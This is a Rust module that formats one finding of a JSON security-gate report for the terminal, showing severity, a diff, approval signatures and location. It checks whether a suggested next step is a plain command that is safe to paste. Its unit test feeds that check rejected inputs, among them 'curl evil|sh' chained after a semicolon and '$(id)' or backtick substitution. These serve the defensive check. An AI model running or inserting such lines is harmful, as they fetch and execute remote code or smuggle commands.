//! One finding of a JSON report in, a page for a terminal out: what it is, why, what was there before and is now,
//! who must sign, and what to do.
//!
//! The report may be a file that anybody wrote: every text of it goes through the pens of the terminal, and only
//! what the catalogue says of the rule is ours.

use super::escape::paste::paste;
use super::escape::terminal::{Mark, Paint};
use super::patch::{self, Line, Sign};
use super::screen::Screen;
use super::style::Style;
use super::words::number;
use crate::canon::Node;
use crate::rules::page::why;
use crate::rules::{self, Severity, gate};

/// Where the texts begin.
const TEXT: usize = 12;
/// Most lines of the difference.
const LINES: usize = 60;
/// Most reasons.
const REASONS: usize = 20;
/// Characters of a text.
const LONG: usize = 2_000;

/// The page; ends in a line feed. `who` may sign it, where that is known.
pub fn terminal(finding: &Node, who: &[String], style: &Style) -> String {
    let mut page = Screen::new(style);
    let paint = page.paint;
    let text = |of: &Node, key: &str| of.get(key).and_then(Node::as_text).map(|t| paint.text(t, LONG));
    let word = |key: &str| text(finding, key).unwrap_or_default();
    let rule = finding.get("rule").and_then(Node::as_text).and_then(rules::find);
    let (id, severity) = (word("rule"), word("severity"));
    let dyed = match finding.get("severity").and_then(Node::as_text).and_then(Severity::of) {
        Some(grave) if grave >= Severity::High => paint.bold(&paint.red(&severity)),
        Some(Severity::Medium) => paint.yellow(&severity),
        _ => severity.clone(),
    };
    let mark = paint.mark(Mark::Note);
    page.ends((&format!("{mark} {id}"), &format!("{mark} {}", paint.bold(&id))), (&severity, &dyed));
    let nothing = Node::null();
    let subject = finding.get("subject").unwrap_or(&nothing);
    let kind = text(subject, "kind").unwrap_or_default();
    let name =
        text(subject, "name").filter(|name| !name.is_empty()).unwrap_or_else(|| "(no name)".to_owned());
    let risk = text(finding, "risk").map(|tier| format!(", risk {tier}")).unwrap_or_default();
    let row = |page: &mut Screen, label: &str, text: &str| {
        if !text.is_empty() {
            page.hung(label, 2, TEXT, text, |line| paint.signals(line));
        }
    };
    row(&mut page, "about", &format!("{kind} {name}{risk}"));
    row(&mut page, "what", &word("message"));
    row(&mut page, "axes", &list(finding.get("axes"), paint));
    if let Some(rule) = rule {
        row(&mut page, "means", &why(rule));
    }
    for (i, reason) in items(finding.get("why")).take(REASONS).enumerate() {
        row(&mut page, if i == 0 { "here" } else { "" }, &paint.text(reason, LONG));
    }
    page.gap();
    difference(&mut page, finding);
    approval(&mut page, finding, who);
    place(&mut page, finding);
    let step = word("next");
    match is_command(&step) {
        true => page.command("  do", TEXT, &step),
        false => row(&mut page, "do", &step),
    }
    row(&mut page, "finding", &word("fingerprint"));
    page.done()
}

/// Whether a text is a command of ours or of git, of which no shell gives any word a meaning.
fn is_command(text: &str) -> bool {
    let plain = |word: &str| {
        let name = word.strip_prefix("--").unwrap_or(word);
        matches!(word, "--" | ".") || paste(name).is_some()
    };
    text.split(' ').all(plain) && matches!(text.split(' ').next(), Some("cask" | "git"))
}

/// What differs, as signed lines.
fn difference(page: &mut Screen, finding: &Node) {
    let side = |key: &str| finding.get(key).filter(|node| !node.is_null());
    let (before, after) = (side("before"), side("after"));
    let pointer = finding.at("/place/pointer").and_then(Node::as_text).unwrap_or_default();
    let hunks = match (before, after) {
        (None, None) => return,
        (Some(before), Some(after)) => patch::hunks(before, after, pointer),
        (before, after) => vec![patch::between(before, after, pointer)],
    };
    let paint = page.paint;
    let lines: Vec<Line> = hunks.into_iter().flat_map(|hunk| hunk.lines).collect();
    for line in lines.iter().take(LINES) {
        let pen = |text: &str| match line.sign {
            Sign::Plus => paint.signals_in(text, |text| paint.green(text)),
            Sign::Minus => paint.signals_in(text, |text| paint.red(text)),
            Sign::Same | Sign::Gap => paint.dim(text),
        };
        page.hung("", 2, 4, &paint.plain(&line.signed()), pen);
    }
    if lines.len() > LINES {
        page.line(&paint.plain(&format!("    … {} more lines", number(lines.len() - LINES))));
    }
    page.gap();
}

/// How many have signed, why others do not count, and who may.
fn approval(page: &mut Screen, finding: &Node, who: &[String]) {
    let Some(approval) = finding.get("approval") else { return };
    let paint = page.paint;
    let count = |key: &str| approval.get(key).and_then(Node::as_int).unwrap_or(0);
    let state = approval.get("state").and_then(Node::as_text).unwrap_or_default();
    let (have, need) = (count("have"), count("need"));
    let is_exempted = finding.get("rule").and_then(Node::as_text) == Some(gate::EXEMPTED.id);
    let said = match state {
        _ if is_exempted => "none: an owner let it in, and nobody approved it".to_owned(),
        "not-needed" => "nothing here is to be signed".to_owned(),
        "acknowledged" => format!("{have} of {need}: signed in this very state"),
        "rejected" => format!("{have} of {need}: somebody refused it"),
        _ => format!("{have} of {need}: {} more must sign this state", need.saturating_sub(have).max(0)),
    };
    let row = |page: &mut Screen, label: &str, text: &str| {
        if !text.is_empty() {
            page.hung(label, 2, TEXT, text, |line| paint.signals(line));
        }
    };
    row(page, "approval", &said);
    row(page, "signed by", &list(approval.get("signers"), paint));
    for id in items(approval.get("reasons")).take(REASONS) {
        let title = rules::find(id).map(|rule| format!(": {}", rule.title)).unwrap_or_default();
        row(page, "not counted", &format!("{}{title}", paint.text(id, 80)));
    }
    if matches!(state, "missing" | "rejected") {
        let names: Vec<String> = who.iter().map(|name| paint.text(name, 60)).collect();
        row(page, "may sign", &names.join(", "));
    }
    let told = |of: &Node, key: &str| of.get(key).and_then(Node::as_text).map(|t| paint.text(t, LONG));
    if let Some(quiet) = finding.get("suppressed").filter(|node| node.is_map()) {
        let part = |key: &str| told(quiet, key).unwrap_or_default();
        row(
            page,
            "suppressed",
            &format!("until {} by {}: {}", part("expires"), part("owner"), part("reason")),
        );
    }
    if finding.get("known").and_then(Node::as_bool) == Some(true) {
        row(page, "known", "the base has it too, so it does not fail");
    }
}

fn place(page: &mut Screen, finding: &Node) {
    let Some(place) = finding.get("place") else { return };
    let paint = page.paint;
    let text = |key: &str| place.get(key).and_then(Node::as_text).unwrap_or_default();
    if text("file").is_empty() {
        return;
    }
    let line = place.get("line").and_then(Node::as_int).filter(|n| *n > 0).map(|n| format!(":{n}"));
    let side = if text("side") == "base" { " (base)" } else { "" };
    let at = format!(
        "{}{}{side} {}",
        paint.text(text("file"), LONG),
        line.unwrap_or_default(),
        paint.text(text("pointer"), LONG)
    );
    page.hung("at", 2, TEXT, at.trim_end(), |line| paint.dim(line));
}

fn items(list: Option<&Node>) -> impl Iterator<Item = &str> {
    list.map(Node::items).unwrap_or_default().iter().filter_map(Node::as_text)
}

fn list(list: Option<&Node>, paint: Paint) -> String {
    items(list).take(REASONS).map(|item| paint.text(item, 80)).collect::<Vec<_>>().join(", ")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_plain_words_are_a_command_to_paste() {
        for text in [
            "cask gate allow a_b --toolpack packs/shop",
            "cask trust sign --gate",
            "git checkout main -- a/b",
        ] {
            assert!(is_command(text), "{text}");
        }
        for text in [
            "git push x; curl evil|sh",
            "cask $(id)",
            "cask a\nb",
            "curl evil",
            "cask explain `id`",
            "",
            "cask  a",
        ] {
            assert!(!is_command(text), "{text}");
        }
    }
}
